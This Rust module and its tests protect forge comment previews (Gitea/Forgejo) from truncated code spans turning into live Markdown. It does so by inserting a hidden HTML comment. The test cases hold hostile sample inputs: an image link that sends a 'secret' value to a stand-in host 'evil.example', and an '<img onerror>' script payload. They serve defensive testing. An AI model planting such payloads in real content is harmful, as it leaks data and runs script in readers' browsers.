//! The beginning of a post, which forges show apart from the rest of it.
//!
//! Gitea and Forgejo take the first 200 characters of a comment into their lists of what happened, end them at the first `|`, and render what is
//! left as Markdown of its own. A span of code whose end is cut off is none there: an image in it is loaded. Owns what a post gets in front of
//! such a span. Tests: below, with a real Markdown parser.

use std::borrow::Cow;

/// Characters of a post's beginning that may be shown apart.
const SHOWN: usize = 200;
/// An HTML comment longer than that: wherever it is cut, nothing of it and nothing behind it is shown.
const COVER: &str = "<!-- caisson: what others wrote stands below as code. A forge shows the first 200 characters of a comment apart, cut off anywhere, and code whose end is cut off would be markup there, so that these words come first and nothing of it is shown. -->\n\n";

/// The text with a comment that nobody sees in front of its first block with code that would be more than words if it were cut, where that
/// begins among the characters that may be shown apart.
pub fn covered(text: &str) -> Cow<'_, str> {
    let end = text.char_indices().nth(SHOWN).map_or(text.len(), |(at, _)| at);
    // What begins behind a bar is not shown.
    let end = text[..end].find('|').unwrap_or(end);
    let (mut at, mut block) = (0, 0);
    while let Some(open) = text[at..].find('`').map(|found| at + found).filter(|open| *open < end) {
        if let Some(gap) = text[at..open].rfind("\n\n") {
            block = at + gap + 2;
        }
        let ticks = run(&text[open..]);
        let inside = open + ticks;
        let close = closing(&text[inside..], ticks).map_or(text.len(), |found| inside + found);
        if is_live(&text[inside..close]) {
            return Cow::Owned(format!("{}{COVER}{}", &text[..block], &text[block..]));
        }
        at = (close + ticks).min(text.len());
    }
    Cow::Borrowed(text)
}

/// How many backticks a text begins with.
fn run(text: &str) -> usize {
    text.bytes().take_while(|byte| *byte == b'`').count()
}

/// Where the first run of exactly so many backticks begins.
fn closing(text: &str, ticks: usize) -> Option<usize> {
    let mut at = 0;
    while let Some(begin) = text[at..].find('`').map(|found| at + found) {
        let length = run(&text[begin..]);
        if length == ticks {
            return Some(begin);
        }
        at = begin + length;
    }
    None
}

/// Whether something in it would be a link, an image, HTML, a name that is called, a reference, or more than plain letters, if it were no code.
fn is_live(code: &str) -> bool {
    ["://", "www."].iter().any(|sign| code.contains(sign)) || code.contains(['[', '<', '@', '#', '!', '*', '$', '&'])
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::text::{code, document};
    use pulldown_cmark::{Event, Options, Parser, Tag};

    const IMAGE: &str = "![x](http://evil.example/?q=secret)";

    /// Whether a forge would show more than words of ours, and code, of the first characters.
    fn is_alive(text: &str) -> bool {
        let options = Options::ENABLE_TABLES | Options::ENABLE_GFM | Options::ENABLE_STRIKETHROUGH;
        Parser::new_ext(text, options).any(|event| match event {
            Event::Start(Tag::Link { .. } | Tag::Image { .. }) => true,
            Event::Html(html) | Event::InlineHtml(html) => !html.starts_with("<!--"),
            Event::Text(words) => ["://", "www.", "@"].iter().any(|sign| words.contains(sign)),
            _ => false,
        })
    }

    /// Whether that holds wherever the text is cut.
    fn is_alive_cut(text: &str) -> bool {
        let shown: Vec<usize> = text.char_indices().map(|(at, _)| at).take(SHOWN + 1).collect();
        let alive = |end: &usize| is_alive(&text[..*end]) || is_alive(&format!("{}…", &text[..*end]));
        shown.iter().any(alive)
    }

    #[test]
    fn code_that_is_cut_off_is_no_markup_where_the_beginning_is_shown_apart() {
        let long = "and so on ".repeat(30);
        for foreign in [
            format!("`{IMAGE} {long}`"),
            format!("`{IMAGE} | {long}`"),
            format!("plain words `@admin {long}`"),
            format!("see `https://evil.example/{long}`"),
            format!("see `www.evil.example/{long}`"),
            format!("`<img src=x onerror=alert(1)> {long}`"),
        ] {
            for text in [
                format!("### The agent asks\n\n{}\n**What now**: `/stop`\n", document(&foreign, 1000)),
                format!("The task is paused. It got stuck: {}.", code(foreign.trim_matches('`'))),
                format!("`bob`: it is done.\n\nSee `a.py`. {}", code(foreign.trim_matches('`'))),
            ] {
                assert!(is_alive_cut(&text), "nothing is cut of {text}");
                let covered = covered(&text);
                assert!(!is_alive_cut(&covered), "{covered}");
                assert!(!is_alive(&covered) && covered.replace(COVER, "") == text, "{covered}");
            }
        }
    }

    #[test]
    fn words_of_ours_stay_and_what_stands_behind_the_beginning_too() {
        for text in [
            "`bob`: nothing was changed. `/stop` ends it, `/budget …` grants more.".to_owned(),
            format!("{} `{IMAGE}`", "words ".repeat(40)),
            "``a`b`` is on `main`".to_owned(),
            format!("| command |\n|---|\n| `/fix [words]` |\n| `{IMAGE}` |\n"),
            "one ` alone".to_owned(),
            "`".to_owned(),
            String::new(),
        ] {
            assert!(matches!(covered(&text), Cow::Borrowed(_)), "{text}");
        }
        assert!(COVER.split("-->").next().is_some_and(|shown| shown.chars().count() > SHOWN) && !COVER.contains('|'));
    }

    #[test]
    fn the_words_before_a_block_stay_the_first_ones() {
        let text = format!("### The agent asks\n\n> `{IMAGE}`\n>\n> `x`\n");
        assert_eq!(covered(&text), format!("### The agent asks\n\n{COVER}> `{IMAGE}`\n>\n> `x`\n"));
        assert_eq!(covered("`@all` x"), format!("{COVER}`@all` x"));
    }
}
